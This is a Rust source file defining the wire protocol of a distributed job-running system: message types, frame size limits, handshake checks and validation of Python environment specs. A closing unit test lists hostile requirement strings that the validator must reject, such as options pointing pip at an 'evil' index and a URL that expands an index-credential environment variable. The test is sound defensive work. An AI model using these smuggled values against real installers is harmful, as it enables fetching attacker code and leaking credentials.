//! fleetmap's wire protocol: the messages that clients, the coordinator, node
//! daemons and workers exchange, and the frame codec that carries them.
//!
//! **This crate does no I/O** and must not depend on an async runtime, a
//! network library or the operating system: it turns messages into bytes and
//! bytes into messages, nothing else. The shells (coordinator, node daemon,
//! client, worker) move the bytes.
//!
//! Each direction of each connection has its own message type
//! ([`ClientToCoordinator`], [`CoordinatorToClient`], [`NodeToCoordinator`],
//! [`CoordinatorToNode`], and [`worker::ToWorker`]/[`worker::FromWorker`]),
//! so a peer cannot even express a message that is not its to send. Every
//! connection to the coordinator opens with a [`Hello`] answered by a
//! [`HelloReply`].
//!
//! A message is postcard-encoded and travels in one or more frames of
//! `u32 length (LE) | u16 protocol version (LE) | u8 flags | piece`,
//! where `length` counts what follows it. Everything that arrives
//! from a peer "could represent an attacker": a frame that is too large, too
//! short, of an unknown version or that does not decode is a [`DecodeError`]
//! with a message, never a panic. The decoder checks the length before it
//! buffers the body, so an oversized frame is refused after four bytes.

mod codec;
mod ids;
pub mod worker;

pub use codec::{encode_frame, DecodeError, EncodeError, FrameDecoder, FRAGMENT_BYTES};
pub use ids::{ChunkId, ClientId, InputIndex, JobId, NodeId, RequestId, SlotId};
use serde::{Deserialize, Serialize};

/// The protocol version this build speaks. A peer that sends another version
/// gets [`DecodeError::UnknownVersion`], which names both.
///
/// Version 2: messages split per direction, postcard encoding.
/// Version 3: job environments (`EnvironmentSpec`), source bundles and
/// failure kinds. Version 4: images and node isolation. Version 5: job
/// listing and cancelling by principal (`ListJobs`, `Jobs`). Version 6:
/// node certificates renewed on a live connection
/// (`CoordinatorToNode::Certificate`), and a job's first chunk sent with its
/// submission (`SubmitJob::first`). Version 7: jobs that survive their
/// client's connection (`SubmitJob::resumable`, `JobState::Waiting`), and
/// detached jobs whose outputs the coordinator keeps (`Resumable::detached`,
/// `FetchResults`).
pub const PROTOCOL_VERSION: u16 = 7;

/// The most payload a job's first chunk may carry inside its `SubmitJob`
/// (a larger one goes as `Inputs`, within credit).
pub const FIRST_CHUNK_BYTES: usize = 1 << 20;

/// The largest message accepted by default (1 GiB): a chunk of inputs or
/// outputs, or a pickled function, must fit in one message. Messages larger
/// than a frame travel in pieces (see [`FRAGMENT_BYTES`]).
pub const DEFAULT_MAX_MESSAGE: usize = 1 << 30;

/// The largest message accepted before a peer has authenticated: a `Hello`
/// holds a name, a secret and a node's inventory (see [`Hello::check`]),
/// never more than a few KiB.
pub const HANDSHAKE_MAX_MESSAGE: usize = 16 << 10;

/// Room kept in every message for what wraps a payload (ids, names, a
/// pickled function's metadata): see [`max_payload`].
pub const ENVELOPE_BYTES: usize = 64 << 10;

/// The largest payload (a chunk of inputs or outputs) under a message limit
/// of `max_message`: small enough that any message carrying it encodes
/// within the limit, so a payload accepted from one peer can always be
/// passed on to the next.
pub const fn max_payload(max_message: usize) -> usize {
    max_message.saturating_sub(ENVELOPE_BYTES)
}

/// The most GPUs one node may advertise.
pub const MAX_NODE_GPUS: usize = 256;

/// The longest name, secret or version string a `Hello` may carry.
pub const MAX_HELLO_FIELD: usize = 256;

/// The longest description of a node's isolation (it may carry the reason
/// cgroups could not be used, and what to do).
pub const MAX_ISOLATION_DESCRIPTION: usize = 2048;

/// The software version, sent in the handshake so that mismatches are named.
pub const SOFTWARE_VERSION: &str = env!("CARGO_PKG_VERSION");

/// What a node offers to run calls.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct Resources {
    /// CPU cores available to slots.
    pub cores: u32,
    /// Memory available to slots, in bytes.
    pub memory_bytes: u64,
    /// NVIDIA GPUs available to slots.
    pub gpus: Vec<Gpu>,
}

/// One NVIDIA GPU of a node.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct Gpu {
    /// The device minor: `/dev/nvidia{minor}`.
    pub minor: u32,
    /// The GPU's UUID where known (from NVML), else empty.
    pub uuid: String,
    /// The NUMA node the GPU hangs off, where known.
    pub numa_node: Option<u32>,
}

/// The resources that every call of a job gets (the user's `func_cpu`,
/// `func_ram` and `func_gpu`).
#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
pub struct CallRequest {
    pub cores: u32,
    pub memory_bytes: u64,
    pub gpus: u32,
    /// Run only on nodes that pin their slots (cgroups: dedicated cores,
    /// memory, processes, devices), never on one started with
    /// `--allow-unisolated` or `--no-cgroups`.
    pub require_isolation: bool,
}

/// How a node isolates its slots.
#[derive(Serialize, Deserialize, Debug, Clone, Default, PartialEq, Eq)]
pub struct NodeIsolation {
    /// Slots are in cgroups of their own (cores, memory, processes, devices).
    pub pinned: bool,
    /// For `fleetmap status`: "pinned: cgroup V2 ..." or why not.
    pub description: String,
}

/// What runs in the slots of a job.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum RuntimeSpec {
    /// A Python callable, pickled with cloudpickle.
    Python {
        /// The caller's interpreter; a node runs it when it exists there.
        executable: String,
        /// The caller's `major.minor`: pickles only travel between equal minors.
        version: String,
        #[serde(with = "serde_bytes")]
        function: Vec<u8>,
        /// The packages the calls need, built into an environment on each
        /// node; `None`: the caller's interpreter as it is (the embedded
        /// cluster, whose calls run in the caller's own environment).
        environment: Option<EnvironmentSpec>,
        /// The caller's local modules as a zip of sources, first on the
        /// workers' `sys.path`.
        sources: Option<SourceBundle>,
        /// An OCI image reference (`registry/repo:tag` or `...@sha256:...`):
        /// every call runs with that image's file system as its root, and
        /// the image's interpreter. `None`: the node's own file system.
        image: Option<String>,
    },
}

/// The longest image reference a node accepts.
pub const MAX_IMAGE_REFERENCE_BYTES: usize = 512;

/// Why a node must not try to pull `reference`, if it must not: it is
/// bounded and made only of the characters image references use, so that
/// it can be named in logs and paths without quoting.
pub fn check_image_reference(reference: &str) -> Result<(), String> {
    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-/:@".contains(c);
    if reference.is_empty() || reference.len() > MAX_IMAGE_REFERENCE_BYTES || !reference.chars().all(allowed) {
        return Err(format!(
            "{reference:?} is not an image reference (REGISTRY/REPOSITORY:TAG or ...@sha256:DIGEST, \
             at most {MAX_IMAGE_REFERENCE_BYTES} characters)"
        ));
    }
    Ok(())
}

/// The most bytes a source bundle may hold (compressed).
pub const MAX_SOURCE_BUNDLE_BYTES: usize = 64 << 20;

/// The caller's own code, content-addressed.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct SourceBundle {
    /// The SHA-256 of `zip`, in hex.
    pub digest: String,
    #[serde(with = "serde_bytes")]
    pub zip: Vec<u8>,
}

/// The most requirements an environment may list, and the longest one: a
/// node checks both before it hands any of them to the installer.
pub const MAX_REQUIREMENTS: usize = 10_000;
pub const MAX_REQUIREMENT_BYTES: usize = 2_000;

/// A Python environment, content-addressed: nodes build each id once and
/// share it between jobs (and warm workers never cross ids).
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq, Hash)]
pub struct EnvironmentSpec {
    /// A hash of the caller's Python `major.minor`, `resolve` and the
    /// requirements (32 hex digits).
    pub id: String,
    /// Requirement strings as pip takes them (`numpy==2.3.1`,
    /// `pkg @ git+https://...@COMMIT`).
    pub requirements: Vec<String>,
    /// `true` for a `packages=` list: the installer resolves dependencies.
    /// `false` for the caller's replicated environment, whose manifest is
    /// already complete: installed as listed, without dependencies.
    pub resolve: bool,
}

impl EnvironmentSpec {
    /// Why a node must not use this spec, if it must not.
    pub fn check(&self) -> Result<(), String> {
        if self.id.len() != 32 || !self.id.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err(format!("environment id {:?} is not 32 hex digits", self.id));
        }
        if self.requirements.len() > MAX_REQUIREMENTS {
            return Err(format!(
                "the environment lists {} requirements, over the limit of {MAX_REQUIREMENTS}",
                self.requirements.len()
            ));
        }
        for r in &self.requirements {
            // Nodes write requirements into a requirements file: nothing
            // there may become an option (`-i URL`, ` --index-url`), join
            // two lines (a trailing backslash) or expand the installer's
            // environment (`${VAR}`, where a mirror's credentials live).
            let option = r.starts_with('-') || r.split_whitespace().skip(1).any(|w| w.starts_with('-'));
            let unsafe_text = r.contains(['\n', '\r', '\0']) || r.ends_with('\\') || r.contains("${");
            if r.trim().is_empty() || r.len() > MAX_REQUIREMENT_BYTES || option || unsafe_text {
                return Err(format!(
                    "{r:?} is not a requirement (one per entry, no options, line breaks or ${{...}}, at most \
                     {MAX_REQUIREMENT_BYTES} bytes)"
                ));
            }
        }
        Ok(())
    }
}

/// What made a job fail, so that the caller raises the matching error.
#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
pub enum FailureKind {
    /// A slot, a node or the job itself failed.
    Job,
    /// A node could not prepare the job's environment.
    Environment,
    /// A node could not pull, unpack or use the job's image.
    Image,
    /// Another client of the job's principal cancelled it
    /// (`fleetmap jobs cancel`).
    Cancelled,
}

/// A job as the client submits it.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct JobSpec {
    /// Whose job it is: set by the coordinator from the credentials the
    /// client authenticated with (whatever a client puts here is replaced).
    /// A warm worker serves only jobs of the principal it served before.
    #[serde(default)]
    pub principal: String,
    /// A credential for this job's calls to submit jobs of their own, as
    /// the same principal, valid until this job ends: set by the
    /// coordinator (whatever a client puts here is replaced) and handed by
    /// nodes to the job's workers, never the principal's API key.
    #[serde(default)]
    pub job_key: String,
    /// The job whose call submitted this one, when a call did (set by the
    /// coordinator from the credential the client authenticated with).
    #[serde(default)]
    pub parent: Option<JobId>,
    pub call: CallRequest,
    /// The most calls that may run at once; `None` means as many as fit.
    pub parallelism: Option<u32>,
    /// The number of inputs, when the client knows it up front.
    pub total_inputs: Option<u64>,
    pub runtime: RuntimeSpec,
    /// What to call the job in listings: its function's name as the caller
    /// knows it (`module.qualname`). The coordinator keeps at most
    /// [`MAX_JOB_NAME`] bytes of it.
    #[serde(default)]
    pub name: String,
}

/// The most bytes of a job's name the coordinator keeps.
pub const MAX_JOB_NAME: usize = 200;

/// Who opens a connection to the coordinator.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum Role {
    Node {
        /// The join token: only to enroll (a node with a certificate of
        /// the cluster presents that in the TLS handshake instead, and
        /// sends an empty token).
        token: String,
        name: String,
        resources: Resources,
        /// How the node isolates its slots.
        isolation: NodeIsolation,
        /// The node's public key (raw ECDSA P-256 point), for the
        /// coordinator to certify when it enrolls or renews the node.
        public_key: Vec<u8>,
    },
    Client {
        api_key: String,
    },
}

/// The first message on every connection to the coordinator.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct Hello {
    pub role: Role,
    pub software_version: String,
}

/// A run of consecutive inputs, pickled together as one list.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct InputChunk {
    pub chunk: ChunkId,
    /// The index (in the caller's `inputs`) of the chunk's first input.
    pub first_input: InputIndex,
    pub count: u32,
    #[serde(with = "serde_bytes")]
    pub payload: Vec<u8>,
}

/// The outcomes of one chunk: a pickled `(outputs, failures)` pair.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct OutputChunk {
    pub chunk: ChunkId,
    pub first_input: InputIndex,
    pub count: u32,
    /// How many of the chunk's inputs failed.
    pub failed: u32,
    /// The node that ran the chunk.
    pub node: String,
    #[serde(with = "serde_bytes")]
    pub payload: Vec<u8>,
}

/// One node as `fleetmap status` shows it.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct NodeStatus {
    pub name: String,
    pub resources: Resources,
    pub free_cores: u32,
    pub free_memory_bytes: u64,
    pub free_gpus: u32,
    pub isolation: String,
}

/// Which stream of a worker a line of output came from.
#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputStream {
    Stdout,
    Stderr,
}

/// A line that a call printed.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct LogLine {
    pub job: JobId,
    pub stream: OutputStream,
    pub node: String,
    pub text: String,
}

impl Hello {
    /// Checks every field against its bound before anything else reads
    /// the `Hello` (it comes from a peer that has not authenticated yet).
    /// The error names the field and its limit, never the peer's bytes.
    pub fn check(&self) -> Result<(), String> {
        let bounded = |what: &str, value: &str, limit: usize| {
            if value.len() > limit {
                Err(format!("{what} is {} bytes, over the limit of {limit}", value.len()))
            } else {
                Ok(())
            }
        };
        let field = |what: &str, value: &str| bounded(what, value, MAX_HELLO_FIELD);
        field("the software version", &self.software_version)?;
        match &self.role {
            Role::Client { api_key } => field("the API key", api_key),
            Role::Node {
                token,
                name,
                resources,
                isolation,
                public_key,
            } => {
                field("the join token", token)?;
                if public_key.len() > MAX_HELLO_FIELD {
                    return Err(format!(
                        "the public key is {} bytes, over the limit of {MAX_HELLO_FIELD}",
                        public_key.len()
                    ));
                }
                field("the node name", name)?;
                if name.is_empty() || name.chars().any(|c| c.is_control()) {
                    return Err("the node name must be non-empty and printable".into());
                }
                bounded(
                    "the isolation description",
                    &isolation.description,
                    MAX_ISOLATION_DESCRIPTION,
                )?;
                if resources.gpus.len() > MAX_NODE_GPUS {
                    return Err(format!(
                        "the node advertises {} GPUs, over the limit of {MAX_NODE_GPUS}",
                        resources.gpus.len()
                    ));
                }
                resources.gpus.iter().try_for_each(|g| field("a GPU's UUID", &g.uuid))
            }
        }
    }
}

/// A message's size on the wire, closely enough to budget queues by: the
/// bytes of its payloads and strings plus a constant for the rest. Counting
/// it costs nothing next to sending it (no encoding).
pub trait WireSize {
    fn wire_size(&self) -> usize;
}

/// What every message costs beyond its payloads and strings.
const MESSAGE_OVERHEAD: usize = 64;

impl WireSize for JobSpec {
    fn wire_size(&self) -> usize {
        let RuntimeSpec::Python {
            function,
            environment,
            sources,
            ..
        } = &self.runtime;
        MESSAGE_OVERHEAD
            + self.name.len()
            + function.len()
            + sources.as_ref().map_or(0, |s| s.zip.len())
            + environment
                .as_ref()
                .map_or(0, |e| e.requirements.iter().map(String::len).sum())
    }
}

impl WireSize for LogLine {
    fn wire_size(&self) -> usize {
        MESSAGE_OVERHEAD + self.text.len() + self.node.len()
    }
}

impl WireSize for CoordinatorToClient {
    fn wire_size(&self) -> usize {
        MESSAGE_OVERHEAD
            + match self {
                CoordinatorToClient::Output { output, .. } => output.payload.len() + output.node.len(),
                CoordinatorToClient::Log(line) => line.wire_size(),
                CoordinatorToClient::JobRejected { reason, .. }
                | CoordinatorToClient::JobFailed { reason, .. }
                | CoordinatorToClient::NoResults { reason, .. } => reason.len(),
                CoordinatorToClient::Results { outputs, .. } => outputs
                    .iter()
                    .map(|o| MESSAGE_OVERHEAD + o.payload.len() + o.node.len())
                    .sum(),
                CoordinatorToClient::Status { nodes, .. } => nodes
                    .iter()
                    .map(|n| MESSAGE_OVERHEAD + n.name.len() + n.isolation.len())
                    .sum(),
                CoordinatorToClient::Jobs { jobs, .. } => jobs
                    .iter()
                    .map(|j| {
                        MESSAGE_OVERHEAD
                            + j.principal.len()
                            + j.name.len()
                            + j.per_node.iter().map(|n| 32 + n.node.len()).sum::<usize>()
                            + j.failures.iter().map(String::len).sum::<usize>()
                            + match &j.state {
                                JobState::Failed(text) | JobState::Cancelled(text) | JobState::Waiting(text) => {
                                    text.len()
                                }
                                _ => 0,
                            }
                    })
                    .sum(),
                _ => 0,
            }
    }
}

impl WireSize for CoordinatorToNode {
    fn wire_size(&self) -> usize {
        MESSAGE_OVERHEAD
            + match self {
                CoordinatorToNode::RunChunk { chunk, .. } => chunk.payload.len(),
                CoordinatorToNode::StartSlots { spec, slots, .. } => spec.wire_size() + slots.len() * 8,
                CoordinatorToNode::Certificate { pem } => pem.len(),
                _ => 0,
            }
    }
}

impl WireSize for NodeToCoordinator {
    fn wire_size(&self) -> usize {
        MESSAGE_OVERHEAD
            + match self {
                NodeToCoordinator::ChunkDone { output, .. } => output.payload.len() + output.node.len(),
                NodeToCoordinator::SlotFailed { reason, .. } => reason.len(),
                NodeToCoordinator::Log(line) => line.wire_size(),
            }
    }
}

impl WireSize for ClientToCoordinator {
    fn wire_size(&self) -> usize {
        MESSAGE_OVERHEAD
            + match self {
                ClientToCoordinator::Inputs { chunk, .. } => chunk.payload.len(),
                ClientToCoordinator::SubmitJob { spec, first, .. } => {
                    spec.wire_size() + first.as_ref().map_or(0, |c| c.payload.len())
                }
                _ => 0,
            }
    }
}

/// The coordinator's answer to a [`Hello`].
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum HelloReply {
    Welcome {
        coordinator_version: String,
        /// A node's new certificate (PEM), signed by the cluster's node CA
        /// for its name and public key: on enrollment, and when the one it
        /// presented nears its end.
        node_certificate: Option<String>,
    },
    Refused {
        reason: String,
    },
    /// Not refused, not admitted yet: a node waiting for the operator's
    /// approval, which should try again later.
    Pending {
        reason: String,
    },
}

/// What a client sends the coordinator after the handshake.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum ClientToCoordinator {
    SubmitJob {
        request: RequestId,
        spec: Box<JobSpec>,
        /// The job's first chunk of inputs (chunk 0, from input 0), sent
        /// with the submission so that the first call waits for no round
        /// trip more. It needs no credit; its payload is at most
        /// [`FIRST_CHUNK_BYTES`].
        first: Option<InputChunk>,
        /// `first` is all of the job's inputs: as if `InputsDone { chunks:
        /// 1 }` followed.
        only: bool,
        /// How the job relates to its connection: whether it outlives a
        /// lost one, which job this submission picks up again, whether it
        /// is detached.
        resumable: Resumable,
    },
    Inputs {
        job: JobId,
        chunk: InputChunk,
    },
    /// All `chunks` chunks of the job's inputs have been sent.
    InputsDone {
        job: JobId,
        chunks: u64,
    },
    /// Cancels a job of this client's principal, whichever connection
    /// submitted it.
    CancelJob {
        job: JobId,
    },
    StatusRequest {
        request: RequestId,
    },
    /// The jobs of this client's principal.
    ListJobs {
        request: RequestId,
    },
    /// The outputs a detached job of this client's principal has left, from
    /// byte `offset` of what the coordinator keeps (0 first, then the
    /// `next` each answer gives).
    FetchResults {
        request: RequestId,
        job: JobId,
        offset: u64,
    },
}

/// The longest resume token a client may choose.
pub const MAX_RESUME_TOKEN: usize = 64;

/// How a job outlives its client's connection. A connection that ends
/// without a goodbye (a sleeping laptop, a cut link, a coordinator
/// restart) does not cancel a job that has a token: the coordinator stops
/// its calls and keeps it for its grace period, and the client picks it up
/// by submitting it again with `resumes`, sending the chunks it has no
/// answer for. A clean close or a cancel still ends the job at once.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq, Default)]
pub struct Resumable {
    /// A secret the client chose for this job (at most
    /// [`MAX_RESUME_TOKEN`] bytes): only a submission that presents it
    /// again picks the job up. Empty: the job ends with its connection.
    pub token: String,
    /// How long the job waits for its client, in milliseconds (the
    /// coordinator caps it).
    pub grace_ms: u64,
    /// The job this submission picks up, and how many of its inputs
    /// already have their outcome at the client. Its chunks are numbered
    /// from 0 again; their `first_input` keeps the original numbering.
    pub resumes: Option<(JobId, u64)>,
    /// The coordinator keeps the job's outputs instead of sending them, and
    /// the job runs on once all its inputs are in, whatever becomes of the
    /// connection; `FetchResults` reads them.
    pub detached: bool,
}

/// What the coordinator sends a client after the handshake.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum CoordinatorToClient {
    Status {
        request: RequestId,
        nodes: Vec<NodeStatus>,
        jobs: u32,
    },
    JobAccepted {
        request: RequestId,
        job: JobId,
        slots: u32,
        nodes: u32,
        credit: u32,
    },
    JobRejected {
        request: RequestId,
        reason: String,
    },
    /// The client may send this many more chunks of inputs.
    Credit {
        job: JobId,
        chunks: u32,
    },
    Output {
        job: JobId,
        output: OutputChunk,
    },
    Log(LogLine),
    JobFinished {
        job: JobId,
    },
    JobFailed {
        job: JobId,
        kind: FailureKind,
        reason: String,
    },
    /// The answer to `ListJobs`.
    Jobs {
        request: RequestId,
        jobs: Vec<JobStatus>,
    },
    /// The answer to `FetchResults`: outputs in the order they finished
    /// (each names its inputs), and where the next page starts (`None`:
    /// these were the last kept so far).
    Results {
        request: RequestId,
        outputs: Vec<OutputChunk>,
        next: Option<u64>,
    },
    /// `FetchResults` found nothing to read, and why.
    NoResults {
        request: RequestId,
        reason: String,
    },
}

/// One running job as `fleetmap jobs` shows it.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct JobStatus {
    pub job: JobId,
    pub principal: String,
    /// Its function's name (`JobSpec::name`).
    pub name: String,
    pub state: JobState,
    /// When it was submitted and when it ended (Unix seconds).
    pub started: u64,
    pub ended: Option<u64>,
    /// Slots it holds, and on how many nodes.
    pub slots: u32,
    pub nodes: u32,
    /// Inputs with an outcome, and how many there are (when known).
    pub inputs_done: u64,
    pub total_inputs: Option<u64>,
    /// Inputs whose call raised.
    pub inputs_failed: u64,
    /// What every call gets.
    pub call: CallRequest,
    /// Its progress on each node it has run on.
    pub per_node: Vec<NodeProgress>,
    /// The first few nodes lost under it, as text (a slot's failure ends
    /// the job, and its reason is in `state`).
    pub failures: Vec<String>,
}

/// Where a job stands.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum JobState {
    Running,
    /// Every input has its outcome.
    Finished,
    /// Failed, with the reason its client was given.
    Failed(String),
    /// Cancelled, with by whom or why.
    Cancelled(String),
    /// Its connection was lost: its calls are stopped and it waits for its
    /// client to pick it up (`Resumable`), with until when.
    Waiting(String),
}

/// A job's progress on one node.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub struct NodeProgress {
    pub node: String,
    /// Slots it holds there now.
    pub slots: u32,
    pub inputs_done: u64,
    pub inputs_failed: u64,
}

/// What the coordinator sends a node daemon after the handshake.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum CoordinatorToNode {
    StartSlots {
        job: JobId,
        spec: Box<JobSpec>,
        slots: Vec<SlotId>,
    },
    RunChunk {
        job: JobId,
        slot: SlotId,
        chunk: InputChunk,
    },
    /// The job ended. `finished`: every input has its outcome, so its
    /// workers are idle and may stay warm for the same principal's next
    /// job; otherwise (cancelled, failed, its client gone) they are killed.
    StopJob { job: JobId, finished: bool },
    /// Stop one slot of a job (given back for another job's fair share);
    /// it holds no chunk.
    StopSlot { job: JobId, slot: SlotId },
    /// A renewed certificate for this node (PEM), sent while it stays
    /// connected into the last third of its certificate's life: the node
    /// keeps it for its next connection.
    Certificate { pem: String },
}

/// What a node daemon sends the coordinator after the handshake.
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
pub enum NodeToCoordinator {
    ChunkDone {
        job: JobId,
        slot: SlotId,
        output: OutputChunk,
    },
    SlotFailed {
        job: JobId,
        slot: SlotId,
        kind: FailureKind,
        reason: String,
    },
    Log(LogLine),
}

#[cfg(test)]
mod environment_tests {
    use super::*;

    fn spec(requirements: &[&str]) -> EnvironmentSpec {
        EnvironmentSpec {
            id: "0123456789abcdef0123456789abcdef".into(),
            requirements: requirements.iter().map(|r| r.to_string()).collect(),
            resolve: true,
        }
    }

    #[test]
    fn requirements_that_could_steer_the_installer_are_refused() {
        assert!(spec(&[
            "numpy==2.3.1",
            "pkg @ git+https://h/x@abc",
            "a[b]>=1; python_version >= '3.9'"
        ])
        .check()
        .is_ok());
        for bad in [
            "--index-url=http://evil",
            "-r other.txt",
            "numpy --index-url http://evil",
            "numpy\n--extra-index-url http://evil",
            "numpy \\",
            "pkg @ https://evil/${UV_INDEX_URL}",
            "",
            "   ",
        ] {
            assert!(spec(&[bad]).check().is_err(), "{bad:?}");
        }
        let mut long = spec(&["x"]);
        long.id = "not-hex".into();
        assert!(long.check().is_err());
    }
}
